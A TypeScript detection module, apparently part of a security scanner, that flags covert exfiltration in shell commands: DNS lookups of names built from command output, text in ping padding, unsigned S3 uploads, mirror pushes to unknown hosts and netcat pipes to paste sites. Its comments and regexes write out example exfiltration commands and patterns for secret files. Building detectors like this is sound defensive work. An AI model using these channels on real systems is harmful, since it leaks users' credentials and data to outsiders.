/*
 * (Eighth round) Channels out of a command line that carry no URL data of their own (docs/detection.md, "Exfiltration
 * by what a URL carries", eighth round):
 *
 * - a host name built from a command's output (`nslookup $(whoami).$(hostname).x.example`, `curl https://`id`.x.example`):
 *   resolving it hands the output to whoever runs the zone;
 * - data in ICMP padding (`ping -p <16 bytes of text>`, `hping3 -E file`);
 * - an upload without credentials (`--no-sign-request`) to a bucket: a bucket anybody may write to is not the user's;
 * - a repository pushed whole (`--all`, `--mirror`) to a remote given in the same command on a host that is not a known
 *   forge nor an internal name;
 * - a pipe into netcat to a paste or file-drop service (`… | nc termbin.com 9999`).
 *
 * Each is a small lexical check over one command line, bounded: a quantifier never runs past a few hundred characters
 * and nothing nests.
 */

import { commandOutlets } from "./exfil-outlets.js";
import { commandSenders } from "./exfil-senders.js";
import { localHost } from "./local-hosts.js";

export interface ChannelFinding {
  start: number;
  end: number;
  detail: string;
}

export interface ChannelContext {
  /** A host's verdict as a name resolved (collectors, encoded labels), or null. */
  hostVerdict(host: string): string | null;
  /** Whether a host is on the rule's allow list. */
  allowed(host: string): boolean;
  /** Whether a host is a tunnel, a file drop or a paste site. */
  drop(host: string): boolean;
}

const RESOLVERS = /\b(?:dig|nslookup|host|ping6?|curl|wget|nc|ncat|telnet|ssh|Resolve-DnsName|Test-Connection|getent|drill|kdig|traceroute)\b/i;

/** What a substitution runs that reads data (not a configured address such as `terraform output`). */
const DATA_COMMANDS = /(?:^|[\s|;&(])(?:cat|head|tail|base64|base32|xxd|od|hexdump|env|printenv|ls|cut|tr|sed|awk|git|aws|gcloud|az|security|find|grep|openssl|gpg|echo|printf|ifconfig|ip)(?=$|[\s|;&)])/;
/** What a substitution runs that reads the user's or the machine's identity: data when spliced with another piece. */
const IDENTITY_COMMANDS = /(?:^|[\s|;&(])(?:whoami|id|uname|hostname|users|w|who|last|hostnamectl|pwd|date)(?=$|[\s|;&)])/;
/** Variables whose value is a secret. */
const DATA_VARIABLES = /(?:TOKEN|KEY|SECRET|PASS|PWD|PASSWD|CRED|AUTH|SESSION|COOKIE)/i;
/** Variables that name the user or the machine: data when spliced with another piece. */
const IDENTITY_VARIABLES = /(?:USER|USERNAME|LOGNAME|COMPUTERNAME|USERDOMAIN|HOSTNAME)/i;

/** The `)` that closes the `(` at `at` (depth counted, 512 characters at most), or -1. */
function closeOf(v: string, at: number): number {
  let depth = 1;
  for (let i = at + 1; i < v.length && i < at + 512; i++) {
    const c = v[i];
    if (c === "(") depth++;
    else if (c === ")" && --depth === 0) return i;
  }
  return -1;
}

const NAME_CHAR = /[A-Za-z0-9_-]/;

/**
 * Host names built from substitutions: each `$(…)`, backtick pair or variable expansion standing as a label of a name
 * that ends in two literal labels, in host position (after `//` or `@`, or a word of its own), in a command that
 * resolves or contacts a host. Judged data when a substitution reads data or a variable names a secret, the user's or
 * the machine's identity is spliced with another piece, two command outputs or more are spliced, or the fixed part is
 * a collector. One name alone (`$USER.dev.acme.example`, `$(hostname).corp.example`) is a per-developer address.
 */
function substitutedHosts(v: string, ctx: ChannelContext): ChannelFinding[] {
  if (!RESOLVERS.test(v)) return [];
  const out: ChannelFinding[] = [];
  const chunks = chunkVariables(v);
  let from = 0;
  for (let n = 0; n < 32; n++) {
    const at = nextExpansion(v, from);
    if (at < 0) break;
    // The start of the word: back over name characters and other expansions to a boundary.
    let start = at;
    while (start > 0 && start > at - 256 && (NAME_CHAR.test(v[start - 1] as string) || v[start - 1] === ".")) start--;
    const before = v.slice(Math.max(0, start - 2), start);
    const hostPosition = start === 0 || /[\s"'=]$/.test(before) || before === "//" || before.endsWith("@");
    // The name: expansions and labels joined by dots.
    let i = at;
    let pieces = 0;
    let commands = 0;
    let identity = 0;
    let data = false;
    const literal: string[] = [];
    let label = "";
    while (i < v.length && i < at + 1024) {
      const e = expansionAt(v, i, chunks);
      if (e !== null) {
        pieces++;
        if (e.command) commands++;
        if (e.identity) identity++;
        if (e.data) data = true;
        i = e.end;
        label = "\0";
        continue;
      }
      const c = v[i] as string;
      if (c === ".") {
        literal.push(label);
        label = "";
        i++;
        continue;
      }
      if (!NAME_CHAR.test(c)) break;
      label += c;
      i++;
    }
    literal.push(label);
    from = Math.max(i, at + 1);
    if (!hostPosition || pieces === 0) continue;
    const after = v[i];
    if (after !== undefined && !/[\s"':/;&|)<>]/.test(after)) continue;
    // The fixed tail: the last labels without an expansion.
    const tail: string[] = [];
    for (let k = literal.length - 1; k >= 0 && !(literal[k] as string).includes("\0") && (literal[k] as string) !== ""; k--) tail.unshift(literal[k] as string);
    if (tail.length < 2 || !/^[A-Za-z]{2,24}$/.test(tail[tail.length - 1] as string)) continue;
    const domain = tail.join(".");
    if (ctx.allowed(domain)) continue;
    if (data || commands >= 2 || (identity >= 1 && pieces >= 2) || ctx.hostVerdict(domain) !== null) out.push({ start: at, end: i, detail: "a command's output in a host name" });
  }
  return out;
}

const EXPANSION = /\$\(|\$\{|\$[A-Za-z_]|`|%[A-Za-z_]{2,30}%|\$env:/g;

function nextExpansion(v: string, from: number): number {
  EXPANSION.lastIndex = from;
  const m = EXPANSION.exec(v);
  return m === null ? -1 : m.index;
}

/**
 * (Eleventh round) Encoding or cutting into label-sized pieces (`base32`, `xxd -p`, `fold -w 50`, `cut -c`, `split -b`),
 * or reading the environment, a secret variable or a key file: what a loop over a value's pieces is fed when each piece
 * becomes a host label. Iterating over a list of names (`$(cat services.txt)`, `$(kubectl get svc -o name)`) is not.
 */
const PIECES_OF_DATA = /\b(?:base64|base32|basenc|xxd|od|hexdump|fold|split|gzip|openssl|env|printenv)\b|\bcut\s{1,3}-[bc]|\.env\b|credentials|id_(?:rsa|ed25519|ecdsa)|\/etc\/(?:shadow|passwd)|\$\{?[A-Za-z_]{0,40}(?:TOKEN|KEY|SECRET|PASS|PWD|CRED|AUTH|SESSION|COOKIE|DATABASE_URL|DSN)/i;
const FOR_LOOP = /\bfor\s{1,4}([A-Za-z_][A-Za-z0-9_]{0,30})\s{1,4}in\s{1,4}(?:"?\$\(|`)/g;
const WHILE_READ = /\|\s{0,4}while\s{1,4}(?:IFS=\S{0,8}\s{1,4})?read\s{1,4}(?:-[a-z]{1,3}\s{1,4}){0,3}([A-Za-z_][A-Za-z0-9_]{0,30})\b/g;

/**
 * (Eleventh round) Variables a loop fills with pieces of data: `for c in $(echo $DATABASE_URL | base32 | fold -w 50)`
 * and `… | base64 -w 60 | while read l`. Each is data when it stands as a host label (one lookup per piece: DNS
 * exfiltration by a loop).
 */
function chunkVariables(v: string): Set<string> | undefined {
  if (!/\b(?:for|while)\b/.test(v)) return undefined;
  const out = new Set<string>();
  FOR_LOOP.lastIndex = 0;
  for (let m, n = 0; (m = FOR_LOOP.exec(v)) !== null && n < 8; n++) {
    const open = m.index + m[0].length - 1;
    const end = v[open] === "`" ? v.indexOf("`", open + 1) : closeOf(v, open);
    if (end < 0 || end > open + 512) continue;
    if (PIECES_OF_DATA.test(v.slice(open + 1, end))) out.add(m[1] as string);
  }
  WHILE_READ.lastIndex = 0;
  for (let m, n = 0; (m = WHILE_READ.exec(v)) !== null && n < 8; n++) {
    // The pipeline feeding the loop: back to the start of the command (a `;`, `&&` or a line).
    const from = Math.max(v.lastIndexOf(";", m.index), v.lastIndexOf("&&", m.index), v.lastIndexOf("\n", m.index), m.index - 512, 0);
    if (PIECES_OF_DATA.test(v.slice(from, m.index))) out.add(m[1] as string);
  }
  return out.size > 0 ? out : undefined;
}

/** An expansion starting at `i`: where it ends and whether it carries data (`chunks`: variables a loop fills with data). */
function expansionAt(v: string, i: number, chunks?: Set<string>): { end: number; data: boolean; identity?: boolean; command?: boolean } | null {
  const c = v[i];
  if (c === "$" && v[i + 1] === "(") {
    const end = closeOf(v, i + 1);
    if (end < 0) return null;
    return { end: end + 1, data: DATA_COMMANDS.test(v.slice(i + 2, end)), identity: IDENTITY_COMMANDS.test(v.slice(i + 2, end)), command: true };
  }
  if (c === "$" && v[i + 1] === "{") {
    const end = v.indexOf("}", i + 2);
    if (end < 0 || end > i + 200) return null;
    return { end: end + 1, data: DATA_VARIABLES.test(v.slice(i + 2, end)) || chunks?.has(v.slice(i + 2, end)) === true, identity: IDENTITY_VARIABLES.test(v.slice(i + 2, end)) };
  }
  if (c === "`") {
    const end = v.indexOf("`", i + 1);
    if (end < 0 || end > i + 512) return null;
    return { end: end + 1, data: DATA_COMMANDS.test(v.slice(i + 1, end)), identity: IDENTITY_COMMANDS.test(v.slice(i + 1, end)), command: true };
  }
  if (c === "%") {
    const m = /^%([A-Za-z_]{2,30})%/.exec(v.slice(i, i + 33));
    return m ? { end: i + m[0].length, data: DATA_VARIABLES.test(m[1] as string), identity: IDENTITY_VARIABLES.test(m[1] as string) } : null;
  }
  if (c === "$") {
    const m = /^\$(?:env:)?([A-Za-z_][A-Za-z0-9_]{0,60})/.exec(v.slice(i, i + 66));
    return m ? { end: i + m[0].length, data: DATA_VARIABLES.test(m[1] as string) || chunks?.has(m[1] as string) === true, identity: IDENTITY_VARIABLES.test(m[1] as string) } : null;
  }
  return null;
}

/** A padding pattern in hex that spells text (every byte printable, five different ones or more), not a test pattern. */
export function paddingText(hex: string): boolean {
  if (hex.length < 8 || hex.length > 64 || hex.length % 2 !== 0 || !/^[0-9a-fA-F]+$/.test(hex)) return false;
  const bytes = Buffer.from(hex, "hex");
  for (const b of bytes) if (b < 32 || b >= 127) return false;
  return new Set(bytes).size >= 5;
}

/** `ping -p <hex>`: the padding pattern (16 bytes at most) holding text, not a test pattern (`ff00`, `aa55…`). */
const PING_PATTERN = /\bping6?\b[^|;&\n]{0,200}?\s-p\s{0,4}["']?([0-9a-fA-F]{8,32})/g;
/** hping3 reading a file into its packets' data (`-E file`, `--file file`). */
const HPING_FILE = /\bhping3?\b[^|;&\n]{0,200}?\s(?:-E|--file)\s{1,4}\S/g;

function icmpData(v: string): ChannelFinding[] {
  const out: ChannelFinding[] = [];
  if (/\bping/.test(v)) {
    PING_PATTERN.lastIndex = 0;
    for (let m, n = 0; (m = PING_PATTERN.exec(v)) !== null && n < 32; n++) {
      if (paddingText(m[1] as string)) out.push({ start: m.index, end: m.index + m[0].length, detail: "text in ICMP padding" });
    }
  }
  if (/\bhping/.test(v)) {
    HPING_FILE.lastIndex = 0;
    for (let m, n = 0; (m = HPING_FILE.exec(v)) !== null && n < 8; n++) out.push({ start: m.index, end: m.index + m[0].length, detail: "a file in ICMP or TCP packets" });
  }
  return out;
}

/** aws options that take no value (the others' values are not positional arguments). */
const AWS_FLAGS = new Set(["--recursive", "--no-sign-request", "--quiet", "--dryrun", "--delete", "--only-show-errors", "--no-progress", "--follow-symlinks", "--no-follow-symlinks", "--exact-timestamps", "--size-only", "--no-guess-mime-type", "--force", "--debug", "--no-verify-ssl", "--no-paginate"]);

/** `aws s3 cp|mv|sync <local> s3://… --no-sign-request`, or `aws s3api put-object … --no-sign-request`: an unsigned upload. */
function unsignedUpload(v: string): ChannelFinding[] {
  const at = v.indexOf("--no-sign-request");
  if (at < 0) return [];
  const out: ChannelFinding[] = [];
  // One command at a time.
  let offset = 0;
  for (const segment of v.split(/(?:&&|\|\||[;|\n])/)) {
    const segAt = v.indexOf(segment, offset);
    offset = segAt + segment.length;
    if (!segment.includes("--no-sign-request")) continue;
    const words = segment.trim().split(/\s+/).slice(0, 64);
    const s3 = words.indexOf("s3");
    const api = words.indexOf("s3api");
    if (api >= 0 && /^(?:put-object|upload-part|create-multipart-upload)$/.test(words[api + 1] ?? "")) {
      out.push({ start: segAt, end: segAt + segment.length, detail: "an unsigned upload to a bucket anybody may write to" });
      continue;
    }
    if (s3 < 0 || !/^(?:cp|mv|sync)$/.test(words[s3 + 1] ?? "")) continue;
    const positional: string[] = [];
    for (let k = s3 + 2; k < words.length; k++) {
      const w = words[k] as string;
      if (w.startsWith("--")) {
        if (!AWS_FLAGS.has(w) && !w.includes("=")) k++;
        continue;
      }
      // (`-` is standard input: `tar cz . | aws s3 cp - s3://…`.)
      if (w.startsWith("-") && w !== "-") continue;
      positional.push(w.replace(/^["']|["']$/g, ""));
    }
    const [src, dst] = positional;
    if (src !== undefined && dst !== undefined && /^s3:\/\//i.test(dst) && !/^s3:\/\//i.test(src)) out.push({ start: segAt, end: segAt + segment.length, detail: "an unsigned upload to a bucket anybody may write to" });
  }
  return out;
}

/** Git hosts whose accounts belong to people and organisations a user knows by name. */
export const FORGES = /(?:^|\.)(?:github\.com|gitlab\.com|bitbucket\.org|dev\.azure\.com|visualstudio\.com|codeberg\.org|sr\.ht|gitea\.com|gitee\.com|sourceforge\.net|launchpad\.net|amazonaws\.com|source\.developers\.google\.com|huggingface\.co)$/i;
/** Names and addresses inside a network: a company's own server (the one shared list, local-hosts.ts). */
export const INTERNAL = { test: (host: string): boolean => localHost(host) };

/** The host of a git remote: `https://host/…`, `ssh://git@host/…`, `git@host:path`. */
function remoteHost(remote: string): string | null {
  const r = remote.replace(/^["']|["']$/g, "");
  const url = /^(?:https?|ssh|git):\/\/(?:[^@/\s]{1,200}@)?([^/:\s]{1,253})/i.exec(r);
  if (url) return (url[1] as string).toLowerCase();
  const scp = /^[\w.-]{1,64}@([\w.-]{1,253}):/.exec(r);
  return scp ? (scp[1] as string).toLowerCase() : null;
}

const REMOTE_ADD = /\bgit\s{1,4}remote\s{1,4}add\s{1,4}(?:-\S{1,20}\s{1,4}){0,3}([\w.-]{1,64})\s{1,4}(\S{1,500})/g;
const PUSH_ALL = /\bgit\s{1,4}push\b([^;&|\n]{0,300})/g;

/** `git push --all|--mirror` to a remote added in the same command (or a URL) on a host that is not a forge nor internal. */
function pushedAway(v: string, ctx: ChannelContext): ChannelFinding[] {
  if (!v.includes("push") || !/--(?:all|mirror)\b/.test(v)) return [];
  const added = new Map<string, string>();
  REMOTE_ADD.lastIndex = 0;
  for (let m, n = 0; (m = REMOTE_ADD.exec(v)) !== null && n < 16; n++) added.set(m[1] as string, m[2] as string);
  const out: ChannelFinding[] = [];
  PUSH_ALL.lastIndex = 0;
  for (let m, n = 0; (m = PUSH_ALL.exec(v)) !== null && n < 16; n++) {
    const args = (m[1] as string).trim().split(/\s+/);
    if (!args.some((a) => a === "--all" || a === "--mirror")) continue;
    const target = args.find((a) => !a.startsWith("-"));
    if (target === undefined) continue;
    const remote = added.get(target) ?? target;
    const host = remoteHost(remote);
    if (host === null || FORGES.test(host) || INTERNAL.test(host) || ctx.allowed(host)) continue;
    out.push({ start: m.index, end: m.index + m[0].length, detail: "a whole repository pushed to a remote on an unknown host" });
  }
  return out;
}

const NETCAT = /(?:\|\s{0,8}|<\s{0,8}\S{1,200}\s{1,8}|^|[;&]\s{0,8})(?:nc|ncat|netcat)\s{1,8}(?:-\S{1,10}\s{1,8}){0,4}([\w.-]{3,253})\b[^|;&\n]{0,40}/g;

/** Data piped into netcat to a paste or file-drop service (termbin-style). */
function netcatDrop(v: string, ctx: ChannelContext): ChannelFinding[] {
  if (!/\b(?:nc|ncat|netcat)\b/.test(v)) return [];
  const out: ChannelFinding[] = [];
  NETCAT.lastIndex = 0;
  for (let m, n = 0; (m = NETCAT.exec(v)) !== null && n < 16; n++) {
    const host = (m[1] as string).toLowerCase();
    const piped = m[0].startsWith("|") || m[0].startsWith("<") || /\s<\s{0,4}\S/.test(m[0]);
    if (piped && (ctx.drop(host) || ctx.hostVerdict(host) === "a request collector")) out.push({ start: m.index, end: m.index + m[0].length, detail: "data piped to a paste or file-drop service" });
  }
  return out;
}

/** Every channel finding in one command line (or a tool argument holding one). */
export function commandChannels(v: string, ctx: ChannelContext): ChannelFinding[] {
  if (v.length > 65536) return [];
  return [...substitutedHosts(v, ctx), ...icmpData(v), ...unsignedUpload(v), ...pushedAway(v, ctx), ...netcatDrop(v, ctx), ...commandOutlets(v, ctx), ...commandSenders(v)];
}

/**
 * A tool's destination argument naming a bucket with unsigned requests (`{"destination": "s3://b/ --no-sign-request"}`)
 * while another argument names a local file: an upload nobody signed.
 */
export function unsignedDestination(key: string, value: string): boolean {
  return /^(?:dest|destination|dst|target|to|output|remote|upload_?to|bucket)$/i.test(key) && /^\s*s3:\/\//i.test(value) && value.includes("--no-sign-request");
}
